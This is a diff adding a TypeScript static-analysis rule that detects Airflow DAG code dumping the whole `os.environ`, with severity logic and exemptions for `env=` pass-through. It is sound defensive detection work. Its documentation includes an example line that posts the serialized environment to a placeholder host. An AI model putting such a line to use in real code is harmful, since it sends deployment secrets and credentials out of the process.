@@ -1,0 +1,140 @@
+import type { SyntaxNode } from 'tree-sitter';
+import { defineRule } from '../../src/engine/rule';
+import type { Severity } from '../../src/report';
+import { boundName, CALL_QUERY, enclosingCalls, factsOf, observe } from './_util';
+
+type DumpKind = 'copy' | 'serialize' | 'iterate';
+interface Dump {
+  node: SyntaxNode;
+  kind: DumpKind;
+  parse: boolean;
+  /** Where it goes when it visibly leaves the process: 'network', 'file', 'log'. */
+  sink: string | null;
+  bound: string | null;
+}
+
+const COPIERS = new Set(['dict', 'list', 'tuple', 'set', 'sorted', 'collections.OrderedDict']);
+const SERIALIZERS = new Set(['json.dumps', 'json.dump', 'str', 'repr', 'pprint.pformat', 'pprint.pprint', 'yaml.dump', 'yaml.safe_dump', 'pickle.dumps', 'base64.b64encode']);
+const ENV_METHODS: Record<string, DumpKind> = { copy: 'copy', items: 'iterate', keys: 'iterate', values: 'iterate' };
+
+export default defineRule({
+  meta: {
+    id: 'DG606',
+    name: 'environment-dump',
+    category: 'malicious',
+    severity: 'medium',
+    message: 'dumps the whole process environment{where}',
+    docs: {
+      what:
+        'Finds code that takes the whole of `os.environ` rather than one variable: `dict(os.environ)`, `os.environ.copy()`, `{**os.environ}`, `json.dumps(os.environ)`, `str(os.environ)`, f-string interpolation, iteration over `os.environ` / `.items()`. Critical anywhere when the dump visibly goes to the network or a file (`requests.post(url, json=dict(os.environ))`, also through a variable); at parse time: high when the file also reaches the network at parse time, medium for serialization/iteration, low for a plain copy. Passing the environment on as `env=` (`BashOperator(env={**os.environ, ...})`, `subprocess.run(..., env=os.environ.copy())`) is not reported.',
+      why:
+        'The environment of the dag-processor holds `AIRFLOW__DATABASE__SQL_ALCHEMY_CONN`, `AIRFLOW__CORE__FERNET_KEY`, cloud credentials and every secret injected by the deployment. Collecting all of it is the first step of GuardDog\'s "exfiltrate-sensitive-data" pattern; in a DAG file it runs on every parse, before any task or review of task logs.',
+      example: '```python\nimport json, os, requests\nrequests.post("https://hooks.example.net/c", data=json.dumps(dict(os.environ)))\n```',
+      useInstead: '```python\nregion = os.environ.get("AWS_REGION", "eu-west-1")  # read the one variable you need\n```',
+    },
+  },
+  query: `
+${CALL_QUERY}
+((identifier) @env (#eq? @env "environ"))
+`,
+  onMatch(c, ctx) {
+    if (c.call) {
+      observe(c.call[0], ctx);
+      return;
+    }
+    const id = c.env[0];
+    let env: SyntaxNode = id;
+    const p0 = id.parent;
+    if (!p0 || p0.type === 'dotted_name' || p0.type === 'aliased_import') return;
+    if (p0.type === 'attribute' && p0.childForFieldName('attribute')?.id === id.id) env = p0;
+    if (ctx.qualifiedName(env) !== 'os.environ') return;
+
+    let node: SyntaxNode | null = null;
+    let kind: DumpKind = 'copy';
+    const p = env.parent;
+    if (!p) return;
+    if (p.type === 'attribute' && p.childForFieldName('object')?.id === env.id) {
+      const method = p.childForFieldName('attribute')?.text ?? '';
+      const call = p.parent;
+      if (!(method in ENV_METHODS) || !call || call.type !== 'call') return;
+      node = call;
+      kind = ENV_METHODS[method];
+    } else if (p.type === 'argument_list' && p.parent?.type === 'call') {
+      const fn = ctx.callee(p.parent) ?? '';
+      if (COPIERS.has(fn)) {
+        node = p.parent;
+        kind = 'copy';
+      } else if (SERIALIZERS.has(fn)) {
+        node = p.parent;
+        kind = 'serialize';
+      } else {
+        node = env; // passed as such to some call: judged by the sink below
+        kind = 'serialize';
+      }
+    } else if (p.type === 'dictionary_splat') {
+      node = p.parent;
+      kind = 'copy';
+    } else if ((p.type === 'for_statement' || p.type === 'for_in_clause') && p.childForFieldName('right')?.id === env.id) {
+      node = env;
+      kind = 'iterate';
+    } else if (p.type === 'interpolation') {
+      node = env;
+      kind = 'serialize';
+    } else if (p.type === 'keyword_argument') {
+      node = env;
+      kind = 'serialize';
+    } else return;
+    if (!node) return;
+
+    // Handing the environment on to a child process or operator is what `env=` is for.
+    const parent = node.parent;
+    if (parent?.type === 'keyword_argument' && /^(env|environment|env_vars)$/.test(parent.childForFieldName('name')?.text ?? '')) return;
+    if (parent?.type === 'pair' && /env/i.test(parent.childForFieldName('key')?.text ?? '')) return;
+
+    let sink: string | null = null;
+    for (const call of enclosingCalls(node)) {
+      const k = observe(call, ctx).kinds;
+      if (k.has('network')) sink = 'network';
+      else if (k.has('write') && !sink) sink = 'file';
+      else if (k.has('log') && !sink) sink = 'log';
+      if (sink === 'network') break;
+    }
+    // `some_function(os.environ)` with no visible sink: not a dump.
+    if (node === env && p.type === 'argument_list' && !sink) return;
+    if (p.type === 'keyword_argument' && !sink) return;
+    const list = (ctx.state.get('DG606') as Dump[] | undefined) ?? [];
+    ctx.state.set('DG606', list);
+    list.push({ node, kind, parse: ctx.isParseTime(node), sink, bound: boundName(node) });
+  },
+  onFile(ctx) {
+    const dumps = ctx.state.get('DG606') as Dump[] | undefined;
+    if (!dumps?.length) return;
+    const facts = factsOf(ctx);
+    const parseNetwork = facts.calls.some((f) => f.parseTime && f.kinds.has('network'));
+    for (const d of dumps) {
+      let sink = d.sink;
+      if (!sink && d.bound) {
+        const re = new RegExp(`\\b${d.bound}\\b`);
+        const used = facts.calls.find(
+          (f) => (f.kinds.has('network') || f.kinds.has('write')) && re.test(f.call.childForFieldName('arguments')?.text ?? ''),
+        );
+        if (used) sink = used.kinds.has('network') ? 'network' : 'file';
+      }
+      let severity: Severity;
+      let where = '';
+      if (sink === 'network' || sink === 'file') {
+        severity = 'critical';
+        where = sink === 'network' ? ' and sends it over the network' : ' and writes it to a file';
+      } else if (!d.parse) {
+        continue;
+      } else if (sink === 'log' || parseNetwork) {
+        severity = 'high';
+        where = sink === 'log' ? ' into the logs while the DAG file is parsed' : ' while the DAG file is parsed, in a file that also reaches the network at parse time';
+      } else {
+        severity = d.kind === 'copy' ? 'low' : 'medium';
+        where = ' while the DAG file is parsed';
+      }
+      ctx.report(d.node, this.meta.message.replace('{where}', where), { severity });
+    }
+  },
+});
